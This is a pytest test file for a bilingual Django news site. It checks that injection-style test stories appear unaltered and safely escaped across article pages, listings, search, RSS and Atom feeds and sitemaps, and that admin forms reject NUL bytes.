@pytest.fixture
def allowed(world, client, db):
    """Element/attribute signatures the templates make for the control story, on each page."""
    if not world.allowed:
        story = world.controls[0]
        urls = [
            "/",
            "/en/",
            story.url,
            story.section.get_absolute_url(),
            story.contributor.get_absolute_url(),
            reverse("articles:tag", kwargs={"slug": story.tag_slug}),
            f"/suche/?q={SEARCH_WORD}",
            f"/suche/?q={SEARCH_WORD}&page=2",
            "/suche/?q=",
            "/feeds/",
            "/gibt-es-nicht/",
        ]
        with translation.override("en"):  # the other edition's words for the same things
            urls += [story.section.get_absolute_url(), reverse("articles:feeds")]
        for url in urls:
            response = client.get(url)
            assert response.status_code in {200, 404}, url
            world.allowed |= {signature(node) for node in parse_html(response.content).elements}
        world.allowed |= BODY_SIGNATURES
    return world.allowed


def get(client, url, **params):
    response = client.get(url, params or None)
    assert response.status_code == 200, (url, response.status_code)
    return response


# Pages -------------------------------------------------------------------------------------------


def card_problems(tree: Tree, story: Story) -> list[str]:
    """The story's card in a listing shows its fields exactly."""
    problems = []
    article = story.article
    cards = [
        node
        for node in tree.root.find_all("article", "card")
        if any(a.get("href") == story.url for a in node.find_all("a"))
    ]
    expect(problems, len(cards) >= 1, "story missing from the listing")
    for card in cards:
        headline = card.find("a", href=story.url)
        expect(problems, headline.text() == article.headline, "card headline differs")
        kicker = card.find("p", "kicker")
        expect(problems, kicker and kicker.text() == article.kicker, "card kicker differs")
        standfirst = card.find("p", "standfirst")
        expect(problems, standfirst and standfirst.text() == article.standfirst, "standfirst")
        meta = card.find("p", "meta")
        expect(problems, story.contributor.name in meta.text(), "card byline lacks the name")
        for img in card.find_all("img"):
            expect(problems, img.get("alt") == story.image.alt_text, "card alt text differs")
    return problems


def test_article_pages(world, allowed, client, subtests):
    for story in [*world.stories, *world.controls]:
        with subtests.test(msg="article page", payload=label(story.index), url=story.url):
            response = get(client, story.url)
            tree = parse_html(response.content)
            problems = html_problems(tree, allowed)
            article, section, root = story.article, story.section, tree.root
            headline = article.headline
            expect(problems, root.find("h1").text() == headline, "<h1> differs from headline")
            title = root.find("title").text()
            expect(problems, title == f"{headline} – {SITE}", "<title> differs")
            for name in ("og:title", "twitter:title"):
                meta = root.find("meta", property=name) or root.find("meta", name=name)
                expect(problems, meta.get("content") == headline, f"{name} differs")
            expect(problems, root.find("p", "kicker").text() == article.kicker, "kicker differs")
            standfirst = root.find("p", "standfirst").text()
            expect(problems, standfirst == article.standfirst, "standfirst differs")
            expect(problems, root.find("p", "dateline").text() == article.dateline, "dateline")
            source = root.find("span", "source").text()
            expect(problems, source.endswith(f": {article.source}"), "source differs")
            image = story.image
            figure = root.find("figure", "image")
            expect(problems, figure.find("img").get("alt") == image.alt_text, "alt text differs")
            alt = root.find("meta", property="og:image:alt").get("content")
            expect(problems, alt == image.alt_text, "og:image:alt differs")
            caption = figure.find("figcaption")
            expect(problems, caption.own_text().startswith(image.caption), "caption differs")
            credit = caption.find("span", "credit").text()
            expect(problems, credit == image.credit, "image credit differs")
            byline = root.find("span", "byline").text()
            expect(problems, story.contributor.name in byline, "byline lacks the name")
            corrections = root.find("section", "corrections").text()
            expect(problems, story.correction in corrections, "correction text differs")
            tags = [a.text() for a in root.find("nav", "tags").find_all("a")]
            expect(problems, tags == [story.tag_name], f"tag links {tags!r}")
            crumbs = [a.text() for a in root.find("nav", "breadcrumbs").find_all("a")]
            expect(problems, crumbs[-1] == section.name, "breadcrumb differs from section name")
            meta = root.find("meta", property="article:section").get("content")
            expect(problems, meta == section.name, "article:section differs")
            meta = [m.get("content") for m in root.find_all("meta", property="article:tag")]
            expect(problems, meta == [story.tag_name], "article:tag differs")
            body = response.content.decode()
            expect(problems, article.body == sanitize_body(article.body), "body not sanitised")
            expect(problems, article.body in body, "sanitised body not shown as stored")
            data = json_ld(tree)
            news = data.get("NewsArticle", {})
            expect(problems, news.get("headline") == headline, "JSON-LD headline differs")
            expect(problems, news.get("description") == article.standfirst, "JSON-LD description")
            expect(problems, news.get("articleSection") == section.name, "JSON-LD section")
            expect(problems, news.get("keywords") == [story.tag_name], "JSON-LD keywords differ")
            authors = [a["name"] for a in news.get("author", [])]
            expect(problems, authors == [story.contributor.name], "JSON-LD author differs")
            trail = [item["name"] for item in data["BreadcrumbList"]["itemListElement"]]
            expect(problems, trail[-2:] == [section.name, headline], "JSON-LD breadcrumbs differ")
            if "{{" in headline or "{%" in headline:
                expect(problems, headline in root.find("h1").text(), "template code evaluated")
            assert not problems, problems


def test_section_tag_and_contributor_pages(world, allowed, client, subtests):
    for story in [*world.stories, *world.controls]:
        section, contributor = story.section, story.contributor
        with translation.override(story.article.language):  # the story's own edition
            tag_url = reverse("articles:tag", kwargs={"slug": story.tag_slug})
            pages = [
                ("section", section.get_absolute_url(), section.name),
                ("tag", tag_url, story.tag_name),
                ("contributor", contributor.get_absolute_url(), contributor.name),
            ]
        for kind, url, name in pages:
            with subtests.test(msg=f"{kind} page", payload=label(story.index), url=url):
                tree = parse_html(get(client, url).content)
                root = tree.root
                problems = html_problems(tree, allowed) + card_problems(tree, story)
                expect(problems, root.find("title").text() == f"{name} – {SITE}", "<title>")
                og_title = root.find("meta", property="og:title").get("content")
                expect(problems, og_title == name, "og:title differs")
                h1 = root.find("h1")
                same = h1.text() == name if kind != "tag" else h1.own_text() == f" {name}"
                expect(problems, same, "<h1> differs")
                for link in root.find_all("link", rel="alternate"):
                    feed_title = link.get("title")
                    expect(problems, feed_title.startswith(f"{name} – {SITE} ("), "feed title")
                if kind == "section":
                    description = root.find("meta", name="description").get("content")
                    expect(problems, description == section.description, "description differs")
                    intro = root.find("p", "intro").text()
                    expect(problems, intro == section.description, "intro differs")
                if kind == "contributor":
                    affiliation = root.find("p", "affiliation").text()
                    expect(problems, affiliation == contributor.affiliation, "affiliation")
                    bio = root.find("header", "profile").find_all("p")[-1].text()
                    expect(problems, bio == contributor.bio, "bio differs")
                assert not problems, problems


def test_home_and_search_listings(world, allowed, client, subtests):
    by_url = {story.url: story for story in world.stories}
    seen = set()
    for base, params in [
        ("/", {}),
        ("/suche/", {"q": SEARCH_WORD}),
        ("/en/", {}),
        ("/en/search/", {"q": SEARCH_WORD}),
    ]:
        number = 1
        while True:
            url = base
            query = params | ({"page": number} if number > 1 else {})
            with subtests.test(msg="listing", url=url, query=query):
                tree = parse_html(get(client, url, **query).content)
                problems = html_problems(tree, allowed)
                for link in tree.root.find_all("a"):
                    story = by_url.get(link.get("href"))
                    if story is None:
                        continue
                    seen.add((base, story.index))
                    if "search" in base or "suche" in base:
                        item = link.parent.parent
                        expect(problems, link.text() == story.article.headline, label(story.index))
                        meta = item.find("p", "meta").text()
                        expect(problems, meta.startswith(f"{story.section.name} · "), "section")
                    else:
                        problems += [
                            f"{label(story.index)}: {p}" for p in card_problems(tree, story)
                        ]
                for block in tree.root.find_all("section", "section-block"):
                    link = block.find("h2").find("a")
                    slug = link.get("href").strip("/").split("/")[-1]
                    section = Section.objects.get(slug=slug)
                    expect(problems, link.text() == section.name, f"section block {slug}")
                for option in tree.root.find_all("option"):
                    if option.get("value"):
                        section = Section.objects.get(slug=option.get("value"))
                        expect(problems, option.text() == section.name, "search option differs")
                for nav_link in tree.root.find("nav", "site-nav").find_all("a"):
                    section = Section.objects.get(
                        slug=nav_link.get("href").strip("/").split("/")[-1]
                    )
                    expect(problems, nav_link.text() == section.name, "navigation differs")
                assert not problems, problems
            if not tree.root.find("a", rel="next"):
                break
            number += 1
    # each story in its own edition's lists, and only there
    for base, language in [("/", "de"), ("/suche/", "de"), ("/en/", "en"), ("/en/search/", "en")]:
        expected = {s.index for s in world.stories if s.article.language == language}
        assert {index for listed, index in seen if listed == base} == expected, base


# Feeds and sitemaps ------------------------------------------------------------------------------


def content_problem(content: str, body: str, story: Story) -> bool:
    """Whether an item's content is the story's body followed by its correction (as escaped
    text): what is fine, so expect() is given True."""
    body = in_xml(body)
    return content.startswith(body) and in_xml(escape(story.correction)) in content[len(body) :]


def rss_problems(root, story: Story, channel_title: str | None) -> list[str]:
    problems = []
    channel = root.find("channel")
    if channel_title is not None:
        expect(problems, channel.findtext("title") == in_xml(channel_title), "channel title")
    items = [i for i in channel.iter("item") if i.findtext("link").endswith(story.url)]
    expect(problems, len(items) == 1, "story not in the feed")
    article = story.article
    for item in items:
        expect(problems, item.findtext("title") == in_xml(article.headline), "item title")
        description = item.findtext("description")
        expect(problems, description == in_xml(escape(article.standfirst)), "description")
        content = item.findtext("content:encoded", namespaces=NS)
        expect(problems, content_problem(content, article.body, story), "content:encoded differs")
        categories = [c.text for c in item.findall("category")]
        expected = [in_xml(story.section.name), in_xml(story.tag_name)]
        expect(problems, categories == expected, f"categories {categories!r}")
        creators = [c.text for c in item.findall("dc:creator", NS)]
        expect(problems, creators == [in_xml(story.contributor.name)], "dc:creator differs")
        alt = item.findtext("media:content/media:description", namespaces=NS)
        expect(problems, alt == in_xml(story.image.alt_text), "media:description differs")
    return problems


def atom_problems(root, story: Story, feed_title: str | None) -> list[str]:
    problems = []
    if feed_title is not None:
        expect(problems, root.findtext(f"{ATOM}title") == in_xml(feed_title), "feed title")
    entries = [
        e
        for e in root.iter(f"{ATOM}entry")
        if e.find(f"{ATOM}link").get("href").endswith(story.url)
    ]
    expect(problems, len(entries) == 1, "story not in the feed")
    article = story.article
    for entry in entries:
        expect(problems, entry.findtext(f"{ATOM}title") == in_xml(article.headline), "title")
        summary = entry.findtext(f"{ATOM}summary")
        expect(problems, summary == in_xml(escape(article.standfirst)), "summary differs")
        content = entry.findtext(f"{ATOM}content")
        expect(problems, content_problem(content, article.body, story), "content")
        terms = [c.get("term") for c in entry.findall(f"{ATOM}category")]
        expected = [NOT_XML.sub("", story.section.name), NOT_XML.sub("", story.tag_name)]
        expect(problems, terms == expected, f"category terms {terms!r}")
        names = [a.text for a in entry.findall(f"{ATOM}author/{ATOM}name")]
        expect(problems, names == [in_xml(story.contributor.name)], "author name differs")
    return problems


def test_feeds(world, client, subtests):
    for story in world.stories:
        subjects = [
            ("section", story.section.slug, story.section.name),
            ("tag", story.tag_slug, story.tag_name),
            ("author", story.contributor.slug, story.contributor.name),
        ]
        for kind, slug, name in subjects:
            for fmt, check in (("rss", rss_problems), ("atom", atom_problems)):
                prefix = "/en" if story.article.language == "en" else ""
                url = f"{prefix}/feeds/{kind}/{slug}/{fmt}/"
                with subtests.test(msg="feed", payload=label(story.index), url=url):
                    problems = []
                    root = parse_xml(get(client, url).content, problems, feed=True)
                    if root is not None:
                        problems += check(root, story, f"{name} – {SITE}")
                        if kind == "author" and fmt == "atom":
                            subtitle = root.findtext(f"{ATOM}subtitle")
                            bio = in_xml(story.contributor.bio)
                            expect(problems, subtitle == bio, "subtitle differs from bio")
                    assert not problems, problems
    for prefix, language in [("", "de"), ("/en", "en")]:
        # each edition's site feeds hold its 50 newest stories
        newest = [story for story in world.stories if story.article.language == language][:50]
        for url in [f"{prefix}/feeds/rss/", f"{prefix}/feeds/atom/"]:
            with subtests.test(msg="site feed", url=url):
                problems = []
                root = parse_xml(get(client, url).content, problems, feed=True)
                check = rss_problems if url.endswith("rss/") else atom_problems
                for story in newest:
                    problems += [f"{label(story.index)}: {p}" for p in check(root, story, None)]
                assert not problems, problems


def test_sitemaps(world, client, subtests):
    urls = ["/sitemap.xml", "/sitemap-sections.xml", "/sitemap-tags.xml"]
    urls += ["/sitemap-contributors.xml", "/sitemap-articles.xml"]
    news = ["/sitemap-news.xml", "/en/sitemap-news.xml"]  # each edition's
    roots = {}
    for url in urls + news:
        with subtests.test(msg="sitemap", url=url):
            problems = []
            roots[url] = parse_xml(get(client, url).content, problems)
            assert not problems, problems
    titles = {
        urlsplit(node.findtext("sm:loc", namespaces=NS)).path: node.findtext(
            "news:news/news:title", namespaces=NS
        )
        for url in news
        for node in roots[url].findall("sm:url", NS)
    }
    for story in world.stories:
        with subtests.test(msg="news sitemap title", payload=label(story.index)):
            Tally.checks += 1
            assert titles.get(story.url) == in_xml(story.article.headline)


def test_forms_refuse_nul(db):
    """Editors cannot store NUL (PostgreSQL could not either): the form says so."""
    form = ArticleAdminForm(data={"headline": "Null\x00Byte", "kicker": "\x00"})
    assert "headline" in form.errors and "kicker" in form.errors


def test_report(world):
    """Not a check: how much was checked (shown with -s)."""
    print(f"\n{N} payloads, {Tally.checks} checks")
